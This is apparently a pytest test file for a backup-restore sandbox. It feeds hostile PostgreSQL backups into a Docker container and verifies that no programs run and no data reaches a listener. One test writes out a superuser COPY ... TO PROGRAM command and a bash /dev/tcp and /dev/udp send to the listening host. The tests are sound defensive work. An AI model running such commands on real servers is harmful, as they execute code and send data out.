"""Hostile backups against the server in Docker, where an effect would be on programs, files, databases or the network.

The traps are in the container of PostgreSQL, and someone listens on the host's side of its bridge.
"""

from __future__ import annotations

from contextlib import suppress
from typing import TYPE_CHECKING

import pytest

from merge.errors import HomologationError
from sandbox import images
from sandbox.intake import inspect
from sandbox.restore import restore_central
from sandbox.source import load_source, restore_schema
from tests.hostile import FILES, HONEY, OUTSIDE, Maker, Traps
from tests.witness import Listener, Witness, make_witness

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from sandbox.containers import DockerServer
    from tests.fix_docker import MakeServer

pytestmark = pytest.mark.docker

TRAPS = "/tmp/traps"


def _inside(server: DockerServer, script: str) -> str:
    """What a script says that runs in the container of PostgreSQL, as its user."""
    with images.daemon() as client:
        container = client.containers.get(server._name("postgres"))
        code, said = container.exec_run(["bash", "-c", script])
    assert code == 0, said
    return said.decode()


@pytest.fixture(scope="module")
def server(make_docker_server: MakeServer) -> DockerServer:
    """A started server of PostgreSQL 15 in Docker, which has all of contrib."""
    made = make_docker_server()
    made.start()
    return made


@pytest.fixture(scope="module")
def witness(server: DockerServer) -> Iterator[Witness]:
    _inside(server, f"mkdir {TRAPS} && printf %s {HONEY} > {TRAPS}/honey")
    with images.daemon() as client:
        holder = client.containers.get(server._name("holder")).attrs["NetworkSettings"]
    listener = Listener(next(iter(holder["Networks"].values()))["Gateway"])

    def files() -> dict[str, str]:
        return dict(line.split()[::-1] for line in _inside(server, f"cd {TRAPS}; sha256sum *").splitlines())

    def programs() -> list[str]:
        with images.daemon() as client:
            table = client.containers.get(server._name("postgres")).top(ps_args="-o pid,args")
        return [line for _, line in table["Processes"] if TRAPS in line]

    make_witness(server)
    yield Witness(server, Traps(TRAPS, listener.host, listener.port), listener, files, programs)
    listener.close()


@pytest.fixture
def maker(server: DockerServer, witness: Witness, request: pytest.FixtureRequest) -> Maker:
    folder = server.scratch / str(abs(hash(request.node.name)))
    folder.mkdir()
    return Maker(server, folder, witness.traps)


def _take(server: DockerServer, path: Path, work: Path) -> None:
    """As a central, and as a source beside it."""
    backup = inspect(path, work=work)
    restore_central(server, backup, "restored", jobs=2)
    restore_schema(server, backup, number=3, jobs=2)
    load_source(server, backup, number=3, target="restored", jobs=2)


@pytest.mark.parametrize("name", OUTSIDE)
def test_nothing_comes_out(server: DockerServer, witness: Witness, maker: Maker, name: str) -> None:
    path = FILES[name].make(maker)
    try:
        with witness.watched():
            with suppress(HomologationError):
                _take(server, path, server.folder.parent / "work")
            if server.has_database("restored"):
                assert not witness.tells_honey("restored")
    finally:
        for database in ("restored", "source_3", "source_3_data"):
            server.drop_database(database)


def test_a_superuser_would_get_nowhere(server: DockerServer, witness: Witness) -> None:
    """Code that gets to be superuser runs programs in the container, and still nothing comes out of that."""
    before = witness.state()
    with server.connect("postgres") as conn:
        conn.execute(f"COPY (SELECT 1) TO PROGRAM 'touch {TRAPS}/program'".encode())
        for kind in ("tcp", "udp"):
            send = f'timeout 3 bash -c "echo x > /dev/{kind}/{witness.traps.host}/{witness.traps.port}" || true'
            conn.execute(f"COPY (SELECT 1) TO PROGRAM 'cat > /dev/null; {send}'".encode())
    changed = witness.changed(before)
    _inside(server, f"rm {TRAPS}/program")
    assert [found.partition(":")[0] for found in changed] == ["files"]
